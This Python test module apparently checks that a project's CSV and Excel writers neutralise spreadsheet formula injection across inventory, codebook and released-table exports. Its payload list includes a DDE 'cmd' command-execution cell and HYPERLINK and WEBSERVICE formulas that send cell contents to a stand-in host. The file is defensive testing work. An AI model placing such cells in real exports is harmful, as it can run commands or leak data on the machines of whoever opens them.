"""Cells that a spreadsheet program would run as a formula, through every table that the house writes."""

import csv
import io
import random
import re
import zipfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from itertools import product
from pathlib import Path
from tempfile import TemporaryDirectory
from unittest import mock

from tests.hostile.proofs import Outcome, row
from titip.dictionary.rules import codebook_csv
from titip.dictionary.rules.codebook import Codebook, ElementEntry
from titip.dictionary.rules.types import ElementType
from titip.dictionary.xlsform import writing as xlsform
from titip.govern.rules import sheets
from titip.share.disclosure import filing
from titip.share.rules import Released, writing

#: What begins a formula, what may stand before it, and what it would do.
_BEGINS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t=", "\r=", "\n=")
_BEFORE = ("", " ", "  ", "\u00a0", "\ufeff", "\u200b", "\u2003", "\x0b")
_DOES = ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x.example?"&A1)', "SUM(A1:A9)*2", 'WEBSERVICE("http://x.example")', "DDE(\"x\";\"y\")", "A1", "2", "x")
_NUMBER = re.compile(r"[+-]?[0-9]+([.,][0-9]+)?")
_FORMULA = re.compile(r"^[\s\ufeff\u200b]*[=+\-@＝＋－＠\t\r]")


def hostile(tries: int) -> list[str]:
    """So many cells: each beginning, with what may stand before it, each end; numbers make them different."""
    kinds = [f"{before}{begins}{does}" for before, begins, does in product(_BEFORE, _BEGINS, _DOES)]
    chance = random.Random(4)
    return [kinds[nth] if nth < len(kinds) else f"{chance.choice(kinds)}&{nth}" for nth in range(tries)]


def runs(cell: str) -> bool:
    """Whether a spreadsheet program might take it for a formula; a number is none."""
    return bool(_FORMULA.match(cell)) and not _NUMBER.fullmatch(cell.strip())


def read_back(content: bytes) -> Iterator[str]:
    """The cells of a CSV as a spreadsheet takes them: whatever stands between quotes."""
    for line in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")):
        yield from line


def formulas_in(workbook: bytes) -> int:
    """How many cells of a workbook are formulas or links."""
    with zipfile.ZipFile(io.BytesIO(workbook)) as opened:
        parts = [opened.read(name).decode() for name in opened.namelist() if name.startswith("xl/worksheets/")]
    return sum(part.count("<f>") + part.count("<f ") + part.count("<hyperlink") for part in parts)


def inventory(cells: list[str]) -> int:
    """The inventory as CSV and workbook."""
    rows = [["heading"], *([cell] for cell in cells)]
    return sum(runs(cell) for cell in read_back(sheets.to_csv(rows))) + formulas_in(sheets.to_xlsx(rows))


def dictionary(cells: list[str]) -> int:
    """The dictionary as a codebook and as an XLSForm."""
    book = Codebook(elements=tuple(ElementEntry(f"e{nth}", "registration", ElementType.TEXT, cell, hint=cell) for nth, cell in enumerate(cells)))
    return sum(runs(cell) for cell in read_back(codebook_csv.codebook_csv(book))) + formulas_in(xlsform.write(book))


def released(cells: list[str]) -> int:
    """A public table read and written again, as it is released and as it is protected."""
    with TemporaryDirectory() as folder:
        source, out, protected, workbook = (Path(folder) / name for name in ("in.csv", "out.csv", "protected.csv", "protected.xlsx"))
        with source.open("w", encoding="utf-8", newline="") as target:
            csv.writer(target).writerows([["what", "number"], *([cell, "1"] for cell in cells)])
        table = Released.from_public_file(source)
        table.to_csv(out)
        filing.write(table.table, protected)
        filing.write(table.table, workbook)
        found = [cell for path in (out, protected) for cell in read_back(path.read_bytes())]
        return sum(runs(cell) for cell in found if not cell.startswith("#")) + formulas_in(workbook.read_bytes())


WAYS: tuple[Callable[[list[str]], int], ...] = (inventory, dictionary, released)


@row("Spreadsheet cells that run, in every table that is written", asked=20_000, quick=900, expects="none runs")
def cells(tries: int) -> Outcome:
    """Formulas and links in every disguise, written as CSV and workbooks by each room that writes them, read back as a spreadsheet would."""
    made = hostile(tries)
    share = -(-len(made) // len(WAYS))
    bad = {way.__name__: found for nth, way in enumerate(WAYS) if (found := way(made[nth * share : (nth + 1) * share]))}
    return Outcome(len(made), sum(bad.values()), str(bad))


@cells.defect("cells of released tables are written as they are")
@contextmanager
def as_they_are() -> Iterator[None]:
    with mock.patch.object(writing, "harmless", str), mock.patch.object(filing, "harmless", str):
        yield


@cells.defect("only the equals sign is thought of")
@contextmanager
def only_equals() -> Iterator[None]:
    def weak(text: str) -> str:
        return f"'{text}" if text.startswith("=") else text

    with mock.patch.object(sheets, "harmless", weak):
        yield


@cells.defect("a workbook takes text that looks like a formula for one")
@contextmanager
def formulas() -> Iterator[None]:
    import xlsxwriter

    made = xlsxwriter.Workbook
    with mock.patch.object(filing, "harmless", str), mock.patch.object(
        xlsxwriter, "Workbook", lambda name, options: made(name, {**options, "strings_to_formulas": True})
    ):
        yield
